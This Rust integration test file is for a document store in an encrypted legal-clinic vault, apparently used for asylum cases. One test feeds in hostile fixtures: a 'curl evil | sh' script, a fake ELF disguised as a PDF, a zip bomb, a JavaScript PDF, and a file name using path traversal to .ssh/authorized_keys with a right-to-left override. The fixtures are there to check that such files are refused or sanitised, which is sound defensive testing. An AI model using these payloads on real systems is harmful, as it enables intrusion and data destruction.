//! Documents through the store on real vaults: attach, lock, unlock, export, bytes
//! identical; versions; hostile files refused or kept inert with nothing changed; a
//! large file in bounded WAL; what a crash leaves is removed; backup and restore carry
//! documents; no plaintext of a document's content or name in the vault folder; the
//! checklist ticked by what is attached. The private copy for the viewer is tested in
//! `documents_private.rs` (it sets the process's XDG_RUNTIME_DIR).

mod common;

use std::path::{Path, PathBuf};

use amparo::documents::checklist::ItemState;
use amparo::documents::{AddDocument, DocumentSubject, FileKind};
use amparo::model::{ClientInput, FilingInput, HearingInput, MatterInput};
use amparo::vault::backup;
use amparo::vault::no_progress;
use amparo::{Store, Vault};
use common::*;
use sha2::{Digest, Sha256};

/// A word that appears nowhere but inside the test document and its name.
const SECRET: &str = "Zyxquorbian";
const SECRET_NAME: &str = "Quetzalmoxtli";

struct Case {
    _dir: tempfile::TempDir,
    path: PathBuf,
    files: tempfile::TempDir,
    vault: Vault,
    store: Store,
    client: i64,
    matter: i64,
    hearing: i64,
    filing: i64,
}

async fn case() -> Case {
    let (dir, path) = temp_vault_path();
    let vault = create(&path).await;
    let store = Store::new(vault.pool().clone(), "Ana Volunteer");
    let client = store
        .add_client(&ClientInput { given_name: "Haile".into(), family_name: "Tesfaye".into(), ..Default::default() })
        .await
        .unwrap()
        .id;
    let matter = store
        .add_matter(&MatterInput {
            client_id: client,
            kind: "defensive_asylum".into(),
            forum: "immigration_court".into(),
            ..Default::default()
        })
        .await
        .unwrap()
        .id;
    let hearing = store
        .add_hearing(&HearingInput {
            matter_id: matter,
            kind: "individual".into(),
            starts_at: "2027-03-01 09:00".into(),
            ..Default::default()
        })
        .await
        .unwrap()
        .id;
    let filing = store
        .add_filing(&FilingInput { matter_id: matter, form: "i589".into(), ..Default::default() })
        .await
        .unwrap()
        .id;
    Case { _dir: dir, path, files: tempfile::tempdir().unwrap(), vault, store, client, matter, hearing, filing }
}

impl Case {
    fn file(&self, name: &str, bytes: &[u8]) -> PathBuf {
        let p = self.files.path().join(name);
        std::fs::write(&p, bytes).unwrap();
        p
    }
}

fn pdf(body: &str) -> Vec<u8> {
    format!("%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n({body})\n%%EOF\n").into_bytes()
}

fn sha(bytes: &[u8]) -> String {
    hex::encode(Sha256::digest(bytes))
}

async fn counts(pool: &sqlx::SqlitePool) -> (i64, i64, i64) {
    let q = |sql: &'static str| async move { sqlx::query_scalar::<_, i64>(sql).fetch_one(pool).await.unwrap() };
    (
        q("SELECT COUNT(*) FROM documents").await,
        q("SELECT COUNT(*) FROM document_blobs").await,
        q("SELECT COUNT(*) FROM document_chunks").await,
    )
}

#[tokio::test]
async fn attach_lock_unlock_export_gives_the_same_bytes_and_no_plaintext_is_left() {
    let c = case().await;
    let bytes = pdf(&format!("Declaration of {SECRET}"));
    let file = c.file(&format!("{SECRET_NAME} declaration.pdf"), &bytes);
    let d = c.store.add_document(DocumentSubject::Matter(c.matter), &file, &AddDocument::default()).await.unwrap();
    assert_eq!((d.kind, d.media_type.as_str(), d.size), (FileKind::Pdf, "application/pdf", bytes.len() as i64));
    assert_eq!(d.sha256, sha(&bytes));
    assert_eq!((d.version, d.added_by.as_str(), d.can_open, d.scripted), (1, "Ana Volunteer", true, false));
    let Case { vault, path, files, _dir, .. } = c;
    vault.lock().await;
    for needle in [SECRET, SECRET_NAME] {
        assert_eq!(count_plaintext(path.parent().unwrap(), needle), 0, "{needle} is readable in the vault folder");
    }

    let vault = open(&path).await;
    let store = store(&vault);
    let out = files.path().join("copy.pdf");
    store.export_document(d.id, &out).await.unwrap();
    assert_eq!(sha(&std::fs::read(&out).unwrap()), d.sha256);
    // Never over an existing file.
    let again = store.export_document(d.id, &out).await.unwrap_err();
    assert_eq!(again.code(), "invalid_input", "{again}");
    let audit: i64 =
        sqlx::query_scalar("SELECT COUNT(*) FROM audit_log WHERE entity = 'document' AND action = 'export'")
            .fetch_one(vault.pool())
            .await
            .unwrap();
    assert_eq!(audit, 1, "one export, audited once");
    vault.lock().await;
}

#[tokio::test]
async fn a_new_version_supersedes_and_the_old_one_stays_in_the_history() {
    let c = case().await;
    let first = c.file("I-589 draft.pdf", &pdf("draft one"));
    let second = c.file("I-589 signed.pdf", &pdf("signed"));
    let on = DocumentSubject::Filing(c.filing);
    let v1 = c.store.add_document(on, &first, &AddDocument::default()).await.unwrap();
    let v2 = c
        .store
        .add_document(on, &second, &AddDocument { supersedes: Some(v1.id), ..Default::default() })
        .await
        .unwrap();
    assert_eq!((v2.version, v2.supersedes), (2, Some(v1.id)));
    let listed = c.store.documents(on).await.unwrap();
    assert_eq!(listed.iter().map(|d| d.id).collect::<Vec<_>>(), vec![v2.id], "only the current version is listed");
    let history = c.store.document_history(v1.id).await.unwrap();
    assert_eq!(history.iter().map(|d| (d.id, d.version)).collect::<Vec<_>>(), vec![(v1.id, 1), (v2.id, 2)]);
    assert_eq!(history[0].superseded_by, Some(v2.id));
    // The old one still opens as it was.
    let out = c.files.path().join("old.pdf");
    c.store.export_document(v1.id, &out).await.unwrap();
    assert_eq!(std::fs::read(&out).unwrap(), pdf("draft one"));
    // A version is added to the latest only, and on the same record.
    let third = c.file("third.pdf", &pdf("three"));
    let twice = c.store.add_document(on, &third, &AddDocument { supersedes: Some(v1.id), ..Default::default() }).await;
    assert!(twice.unwrap_err().to_string().contains("newer version"));
    let elsewhere = DocumentSubject::Hearing(c.hearing);
    let add = AddDocument { supersedes: Some(v2.id), ..Default::default() };
    let moved = c.store.add_document(elsewhere, &third, &add).await;
    assert!(moved.unwrap_err().to_string().contains("another record"));
    c.vault.lock().await;
}

#[tokio::test]
async fn a_mistaken_attachment_is_removed_its_content_deleted_and_the_version_before_is_current_again() {
    let c = case().await;
    let on = DocumentSubject::Matter(c.matter);
    let right = c.file("passport.pdf", &pdf("the client's passport"));
    let wrong = c.file(&format!("{SECRET_NAME} passport.pdf"), &pdf(&format!("another client's passport {SECRET}")));
    let item = Some("identity_documents".to_string());
    let v1 = c
        .store
        .add_document(on, &right, &AddDocument { checklist_item: item.clone(), ..Default::default() })
        .await
        .unwrap();
    let add = AddDocument { supersedes: Some(v1.id), checklist_item: item, ..Default::default() };
    let v2 = c.store.add_document(on, &wrong, &add).await.unwrap();
    let chunks_before = counts(c.vault.pool()).await.2;

    // Refused, changing nothing: a blank reason, an earlier version, a document not there.
    assert_eq!(c.store.remove_document(v2.id, "  ").await.unwrap_err().code(), "invalid_input");
    let earlier = c.store.remove_document(v1.id, "wrong file").await.unwrap_err();
    assert!(earlier.to_string().contains("newer version"), "{earlier}");
    assert_eq!(c.store.remove_document(9999, "wrong file").await.unwrap_err().code(), "not_found");
    assert_eq!(counts(c.vault.pool()).await.2, chunks_before);

    c.store.remove_document(v2.id, "Another client's passport, attached to the wrong case").await.unwrap();
    assert_eq!(counts(c.vault.pool()).await.2, chunks_before - 1, "its content is deleted");
    let name: String = sqlx::query_scalar("SELECT name FROM documents WHERE id = ?")
        .bind(v2.id)
        .fetch_one(c.vault.pool())
        .await
        .unwrap();
    assert_eq!(name, "", "its name is blanked");
    assert_eq!(c.store.document(v2.id).await.unwrap_err().code(), "not_found");
    let out = c.files.path().join("removed.pdf");
    assert_eq!(c.store.export_document(v2.id, &out).await.unwrap_err().code(), "not_found");
    assert!(!out.exists());
    assert_eq!(c.store.remove_document(v2.id, "again").await.unwrap_err().code(), "not_found");
    // The version before is current again, with its checklist tick, and takes a new version.
    let listed = c.store.documents(on).await.unwrap();
    assert_eq!(listed.iter().map(|d| (d.id, d.superseded_by)).collect::<Vec<_>>(), vec![(v1.id, None)]);
    assert_eq!(c.store.document_history(v1.id).await.unwrap().len(), 1);
    let checklist = c.store.checklist(c.matter).await.unwrap();
    let line = checklist.lines.iter().find(|l| l.item == "identity_documents").unwrap();
    assert_eq!(line.documents, vec![v1.id], "the tick rests on the document left");
    let again = c.file("passport-renewed.pdf", &pdf("renewed"));
    let v3 =
        c.store.add_document(on, &again, &AddDocument { supersedes: Some(v1.id), ..Default::default() }).await.unwrap();
    assert_eq!(v3.version, 2);
    let audit: String = sqlx::query_scalar(
        "SELECT changes FROM audit_log WHERE entity = 'document' AND action = 'remove' AND entity_id = ?",
    )
    .bind(v2.id)
    .fetch_one(c.vault.pool())
    .await
    .unwrap();
    assert!(audit.contains("wrong case"), "{audit}");
    c.vault.lock().await;
}

#[tokio::test]
async fn documents_of_a_deleted_case_cannot_be_read_by_id_until_it_is_restored() {
    let c = case().await;
    let file = c.file("notice.pdf", &pdf("hearing notice"));
    let mut ids = Vec::new();
    for on in
        [DocumentSubject::Matter(c.matter), DocumentSubject::Hearing(c.hearing), DocumentSubject::Filing(c.filing)]
    {
        ids.push((on, c.store.add_document(on, &file, &AddDocument::default()).await.unwrap().id));
    }
    let on_client =
        c.store.add_document(DocumentSubject::Client(c.client), &file, &AddDocument::default()).await.unwrap().id;
    c.store.delete_matter(c.matter).await.unwrap();
    for (on, id) in &ids {
        assert_eq!(c.store.document(*id).await.unwrap_err().code(), "not_found", "{on:?}");
        assert!(c.store.documents(*on).await.unwrap().is_empty(), "{on:?}");
        let out = c.files.path().join(format!("{id}.pdf"));
        assert_eq!(c.store.export_document(*id, &out).await.unwrap_err().code(), "not_found");
        assert!(!out.exists());
    }
    assert!(c.store.document(on_client).await.is_ok(), "the client's own documents stay");
    c.store.restore_matter(c.matter).await.unwrap();
    for (_, id) in &ids {
        assert!(c.store.document(*id).await.is_ok(), "back with its case");
    }
    c.store.delete_client(c.client).await.unwrap();
    assert_eq!(c.store.document(on_client).await.unwrap_err().code(), "not_found");
    assert_eq!(c.store.document(ids[0].1).await.unwrap_err().code(), "not_found", "a deleted client's case too");
    c.vault.lock().await;
}

#[tokio::test]
async fn hostile_files_are_refused_or_kept_inert_and_a_refusal_changes_nothing() {
    let c = case().await;
    let on = DocumentSubject::Client(c.client);
    let before = counts(c.vault.pool()).await;
    let refuse = |p: PathBuf| {
        let store = c.store.clone();
        async move { store.add_document(on, &p, &AddDocument::default()).await.unwrap_err() }
    };
    // A folder, an empty file, a program named like a PDF, a script, a 1 GB file (sparse:
    // refused from its size before a byte is read), a record that does not exist.
    assert!(refuse(c.files.path().to_path_buf()).await.to_string().contains("not a file"));
    // A named pipe is refused at once, not waited on.
    let fifo = c.files.path().join("scan.pdf");
    assert!(std::process::Command::new("mkfifo").arg(&fifo).status().unwrap().success());
    assert!(refuse(fifo.clone()).await.to_string().contains("not a file"));
    std::fs::remove_file(&fifo).unwrap();
    assert!(refuse(c.file("empty.pdf", b"")).await.to_string().contains("empty"));
    let elf = c.file("passport.pdf", b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0");
    assert!(refuse(elf).await.to_string().contains("never programs"));
    assert!(refuse(c.file("photo.jpg", b"#!/bin/sh\ncurl evil | sh\n")).await.to_string().contains("never programs"));
    let huge = c.files.path().join("video.mp4");
    std::fs::File::create(&huge).unwrap().set_len(1 << 30).unwrap();
    let e = refuse(huge).await;
    assert_eq!(e.code(), "invalid_input");
    assert!(e.to_string().contains("1024 MB"), "{e}");
    let nobody = c.file("ok.pdf", &pdf("x"));
    let e = c.store.add_document(DocumentSubject::Hearing(999), &nobody, &AddDocument::default()).await.unwrap_err();
    assert_eq!(e.code(), "not_found");
    let e = c
        .store
        .add_document(on, &nobody, &AddDocument { checklist_item: Some("no_such_item".into()), ..Default::default() })
        .await
        .unwrap_err();
    assert!(e.to_string().contains("not on the checklist"), "{e}");
    assert_eq!(counts(c.vault.pool()).await, before, "a refused file left something behind");

    // A zip bomb posing as a document: kept as an archive, never unpacked, never opened.
    let bomb = c.file("evidence.pdf", &zip_bomb());
    let d = c.store.add_document(on, &bomb, &AddDocument::default()).await.unwrap();
    assert_eq!((d.kind, d.can_open), (FileKind::Archive, false));
    assert_eq!(c.store.private_copy(d.id).await.unwrap_err().code(), "invalid_input");
    // A PDF with JavaScript is kept and marked.
    let js =
        c.file("notice.pdf", b"%PDF-1.4\n1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\n%%EOF");
    assert!(c.store.add_document(on, &js, &AddDocument::default()).await.unwrap().scripted);
    // An image declaring 65535 x 65535 pixels: kept, nothing decodes it.
    let png = c.file("scan.png", &huge_png_header());
    assert_eq!(c.store.add_document(on, &png, &AddDocument::default()).await.unwrap().kind, FileKind::Image);
    // Folders and control characters in a name are taken out.
    let named =
        AddDocument { name: Some("../../.ssh/authorized_keys\u{1b}[31m\u{202e}fdp.exe".into()), ..Default::default() };
    let d = c.store.add_document(on, &nobody, &named).await.unwrap();
    assert_eq!(d.name, "authorized_keys[31mfdp.exe");
    c.vault.lock().await;
}

/// A zip whose one entry claims to inflate 10,000-fold.
fn zip_bomb() -> Vec<u8> {
    use std::io::Write;
    let mut out = std::io::Cursor::new(Vec::new());
    let mut zip = zip::ZipWriter::new(&mut out);
    zip.start_file("zeros.txt", zip::write::SimpleFileOptions::default()).unwrap();
    zip.write_all(&vec![0u8; 10 << 20]).unwrap();
    zip.finish().unwrap();
    out.into_inner()
}

fn huge_png_header() -> Vec<u8> {
    let mut b = b"\x89PNG\r\n\x1a\n\0\0\0\x0dIHDR".to_vec();
    b.extend_from_slice(&[0, 0, 0xff, 0xff, 0, 0, 0xff, 0xff, 8, 6, 0, 0, 0]);
    b.extend_from_slice(&[0; 4]);
    b
}

#[tokio::test]
async fn a_large_file_goes_in_with_a_small_wal_and_comes_out_whole() {
    let c = case().await;
    // 40 MiB that does not compress, not a whole number of chunks.
    let mut bytes = vec![0u8; (40 << 20) + 12345];
    let mut x: u64 = 0x9e3779b97f4a7c15;
    for b in bytes.iter_mut() {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        *b = x as u8;
    }
    bytes[..8].copy_from_slice(b"%PDF-1.7");
    let file = c.file("recording.pdf", &bytes);
    // The WAL is cut back after each checkpoint, so its largest size is watched meanwhile.
    let wal = wal_of(&c.path);
    let done = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let watcher = {
        let done = done.clone();
        std::thread::spawn(move || {
            let mut peak = 0;
            while !done.load(std::sync::atomic::Ordering::SeqCst) {
                peak = peak.max(std::fs::metadata(&wal).map(|m| m.len()).unwrap_or(0));
                std::thread::sleep(std::time::Duration::from_millis(1));
            }
            peak
        })
    };
    let d = c.store.add_document(DocumentSubject::Hearing(c.hearing), &file, &AddDocument::default()).await;
    done.store(true, std::sync::atomic::Ordering::SeqCst);
    let peak = watcher.join().unwrap();
    let d = d.unwrap();
    assert_eq!(d.size, bytes.len() as i64);
    assert!(peak > 0, "the WAL was never seen");
    assert!(peak < 30 << 20, "the WAL grew to {} MiB for a 40 MiB file", peak >> 20);
    let out = c.files.path().join("out.pdf");
    c.store.export_document(d.id, &out).await.unwrap();
    assert_eq!(sha(&std::fs::read(&out).unwrap()), sha(&bytes));
    c.vault.lock().await;
}

fn wal_of(path: &Path) -> PathBuf {
    let mut p = path.as_os_str().to_owned();
    p.push("-wal");
    PathBuf::from(p)
}

#[tokio::test]
async fn what_an_interrupted_attach_left_is_removed_at_the_next_unlock_and_damage_is_caught() {
    let c = case().await;
    let whole = c.file("a.pdf", &pdf("whole"));
    let d = c.store.add_document(DocumentSubject::Matter(c.matter), &whole, &AddDocument::default()).await.unwrap();
    // As a crash between chunks leaves it: a blob with chunks and no document.
    sqlx::query("INSERT INTO document_blobs (id, started_at) VALUES (77, '2026-12-06T10:00:00Z')")
        .execute(c.vault.pool())
        .await
        .unwrap();
    sqlx::query("INSERT INTO document_chunks (blob_id, seq, bytes) VALUES (77, 0, x'00112233')")
        .execute(c.vault.pool())
        .await
        .unwrap();
    let Case { vault, path, files, _dir, .. } = c;
    vault.lock().await;
    let vault = open(&path).await;
    assert_eq!(counts(vault.pool()).await, (1, 1, 1), "the leftover blob was not removed (or the document was)");
    // A chunk changed under the document is caught on the way out, and no file is left.
    sqlx::query("UPDATE document_chunks SET bytes = x'00'").execute(vault.pool()).await.unwrap();
    let out = files.path().join("damaged.pdf");
    let e = store(&vault).export_document(d.id, &out).await.unwrap_err();
    assert_eq!(e.code(), "document_damaged", "{e}");
    assert!(!out.exists());
    assert_eq!(std::fs::read_dir(files.path()).unwrap().count(), 1, "a partial export was left beside it");
    vault.lock().await;
}

#[tokio::test]
async fn a_backup_and_its_restore_carry_documents() {
    let c = case().await;
    let bytes = pdf(&format!("Medical letter for {SECRET}"));
    let file = c.file("medical.pdf", &bytes);
    let d = c.store.add_document(DocumentSubject::Client(c.client), &file, &AddDocument::default()).await.unwrap();
    let folder = tempfile::tempdir().unwrap();
    let made = c.vault.backup_to(folder.path(), &no_progress).await.unwrap();
    assert_eq!(count_plaintext(folder.path(), SECRET), 0, "the backup holds the document in plaintext");
    c.vault.lock().await;
    let elsewhere = tempfile::tempdir().unwrap();
    let target = elsewhere.path().join("restored.amparo");
    backup::restore(&made.file, &target, &pass(PASS)).await.unwrap();
    let v2 = Vault::open(&target, &pass(PASS)).await.unwrap();
    let out = elsewhere.path().join("medical.pdf");
    store(&v2).export_document(d.id, &out).await.unwrap();
    assert_eq!(std::fs::read(&out).unwrap(), bytes);
    v2.lock().await;
}

#[tokio::test]
async fn attaching_for_an_item_ticks_it_and_marks_and_clinic_items_count() {
    let c = case().await;
    let before = c.store.checklist(c.matter).await.unwrap();
    let line = |cl: &amparo::documents::checklist::Checklist, id: &str| {
        cl.lines.iter().find(|l| l.item == id).unwrap_or_else(|| panic!("{id} is not on the list")).clone()
    };
    assert_eq!(line(&before, "identity_documents").state, ItemState::Missing);
    assert!(before.missing >= 5, "a defensive asylum case starts with most items missing");
    // A passport attached to the client ticks the item on the client's case.
    let passport = c.file("passport.pdf", &pdf("passport"));
    let add = AddDocument { checklist_item: Some("identity_documents".into()), ..Default::default() };
    let d = c.store.add_document(DocumentSubject::Client(c.client), &passport, &add).await.unwrap();
    let after = c.store.checklist(c.matter).await.unwrap();
    assert_eq!(line(&after, "identity_documents").state, ItemState::Attached);
    assert_eq!(line(&after, "identity_documents").documents, vec![d.id]);
    assert_eq!(after.missing, before.missing - 1);
    // By hand: have, not needed, cleared.
    let other = before.lines.iter().find(|l| l.item != "identity_documents").unwrap().item.clone();
    let marked = c.store.mark_checklist_item(c.matter, &other, ItemState::NotNeeded).await.unwrap();
    assert_eq!(line(&marked, &other).state, ItemState::NotNeeded);
    assert_eq!(line(&marked, &other).marked_by.as_deref(), Some("Ana Volunteer"));
    let cleared = c.store.mark_checklist_item(c.matter, &other, ItemState::Missing).await.unwrap();
    assert_eq!(cleared.missing, after.missing);
    assert!(c.store.mark_checklist_item(c.matter, "bia_only_item_x", ItemState::Have).await.is_err());
    // A clinic's own item joins every case of its kind, and a document can tick it.
    let own = c.store.add_clinic_item("defensive_asylum".parse().unwrap(), "Intake form signed").await.unwrap();
    let with_own = c.store.checklist(c.matter).await.unwrap();
    assert!(line(&with_own, &own.id).clinic_item);
    assert_eq!(with_own.missing, after.missing + 1);
    let intake = c.file("intake.pdf", &pdf("intake"));
    let add = AddDocument { checklist_item: Some(own.id.clone()), ..Default::default() };
    c.store.add_document(DocumentSubject::Matter(c.matter), &intake, &add).await.unwrap();
    assert_eq!(line(&c.store.checklist(c.matter).await.unwrap(), &own.id).state, ItemState::Attached);
    c.vault.lock().await;
}

#[tokio::test]
async fn the_dashboard_counts_cases_with_an_individual_hearing_soon_and_evidence_missing() {
    let c = case().await;
    // The case's individual hearing is on 2027-03-01.
    let day = |s: &str| chrono::NaiveDate::parse_from_str(s, "%Y-%m-%d").unwrap();
    let (total, listed) = c.store.missing_evidence(day("2027-02-15"), 15).await.unwrap();
    assert_eq!(total, 1);
    assert_eq!((listed[0].matter_id, listed[0].hearing_on.as_str()), (c.matter, "2027-03-01"));
    let checklist = c.store.checklist(c.matter).await.unwrap();
    assert_eq!(listed[0].missing, checklist.missing as i64, "the dashboard and the case page agree");
    // A case on hold still has its hearing: it still counts.
    let on_hold = MatterInput {
        client_id: c.client,
        kind: "defensive_asylum".into(),
        forum: "immigration_court".into(),
        status: Some("on_hold".into()),
        ..Default::default()
    };
    c.store.update_matter(c.matter, &on_hold).await.unwrap();
    assert_eq!(c.store.missing_evidence(day("2027-02-15"), 15).await.unwrap().0, 1, "a case on hold was left out");
    // Outside the 30 days, nothing; a master calendar hearing does not count.
    let master = HearingInput {
        matter_id: c.matter,
        kind: "master_calendar".into(),
        starts_at: "2027-01-20 09:00".into(),
        ..Default::default()
    };
    c.store.add_hearing(&master).await.unwrap();
    assert_eq!(c.store.missing_evidence(day("2027-01-15"), 15).await.unwrap().0, 0);
    let dashboard = c.store.dashboard(day("2027-02-15")).await.unwrap();
    assert_eq!((dashboard.counts.missing_evidence, dashboard.missing_evidence.len()), (1, 1));
    // Every item attached or marked: the case leaves the list.
    let mut last = None;
    for (n, line) in checklist.lines.iter().enumerate() {
        if n == 0 {
            let f = c.file("first.pdf", &pdf("first"));
            let add = AddDocument { checklist_item: Some(line.item.clone()), ..Default::default() };
            c.store.add_document(DocumentSubject::Hearing(c.hearing), &f, &add).await.unwrap();
        } else {
            last = Some(c.store.mark_checklist_item(c.matter, &line.item, ItemState::Have).await.unwrap());
        }
    }
    assert_eq!(last.unwrap().missing, 0);
    assert_eq!(c.store.missing_evidence(day("2027-02-15"), 15).await.unwrap().0, 0);
    c.vault.lock().await;
}

#[tokio::test]
async fn purging_a_client_removes_every_document_of_theirs_and_no_one_elses() {
    let c = case().await;
    let other = c
        .store
        .add_client(&ClientInput { given_name: "Other".into(), family_name: "Person".into(), ..Default::default() })
        .await
        .unwrap();
    let keep = c.file("other.pdf", &pdf("someone else's"));
    let kept = c.store.add_document(DocumentSubject::Client(other.id), &keep, &AddDocument::default()).await.unwrap();
    for (n, subject) in [
        DocumentSubject::Client(c.client),
        DocumentSubject::Matter(c.matter),
        DocumentSubject::Hearing(c.hearing),
        DocumentSubject::Filing(c.filing),
    ]
    .into_iter()
    .enumerate()
    {
        let f = c.file(&format!("{n}.pdf"), &pdf(&format!("{SECRET} {n}")));
        let d = c.store.add_document(subject, &f, &AddDocument::default()).await.unwrap();
        let f2 = c.file(&format!("{n}b.pdf"), &pdf("second version"));
        c.store
            .add_document(subject, &f2, &AddDocument { supersedes: Some(d.id), ..Default::default() })
            .await
            .unwrap();
    }
    let first = c.store.checklist(c.matter).await.unwrap().lines[0].item.clone();
    c.store.mark_checklist_item(c.matter, &first, ItemState::NotNeeded).await.unwrap();
    let close = amparo::store::matters::CloseMatterInput {
        closed_on: Store::today().to_string(),
        outcome: "granted".into(),
        ..Default::default()
    };
    c.store.close_matter(c.matter, &close).await.unwrap();
    c.store.archive_client(c.client).await.unwrap();
    let due = c.store.archived_clients().await.unwrap()[0].purge_from.unwrap();
    c.store.purge_client(c.client, due).await.unwrap();
    assert_eq!(counts(c.vault.pool()).await, (1, 1, 1), "only the other client's document is left");
    assert_eq!(c.store.documents(DocumentSubject::Client(other.id)).await.unwrap()[0].id, kept.id);
    let marks: i64 =
        sqlx::query_scalar("SELECT COUNT(*) FROM checklist_marks").fetch_one(c.vault.pool()).await.unwrap();
    assert_eq!(marks, 0);
    let audit: i64 = sqlx::query_scalar("SELECT COUNT(*) FROM audit_log WHERE entity = 'document'")
        .fetch_one(c.vault.pool())
        .await
        .unwrap();
    assert_eq!(audit, 1, "the purged documents' history went with them");
    c.vault.lock().await;
}

#[tokio::test]
async fn a_passphrase_change_re_encrypts_documents_and_they_still_open() {
    let c = case().await;
    let bytes = pdf(&format!("Psychological evaluation of {SECRET}"));
    let file = c.file("evaluation.pdf", &bytes);
    let d = c.store.add_document(DocumentSubject::Matter(c.matter), &file, &AddDocument::default()).await.unwrap();
    let Case { mut vault, path, files, _dir, .. } = c;
    let new = "copper lantern meadow quartz";
    vault.change_passphrase(&pass(PASS), &pass(new), amparo::vault::KdfParams::FLOOR).await.unwrap();
    vault.lock().await;
    assert_eq!(count_plaintext(path.parent().unwrap(), SECRET), 0);
    let vault = Vault::open(&path, &pass(new)).await.unwrap();
    let out = files.path().join("evaluation-copy.pdf");
    store(&vault).export_document(d.id, &out).await.unwrap();
    assert_eq!(std::fs::read(&out).unwrap(), bytes);
    vault.lock().await;
}
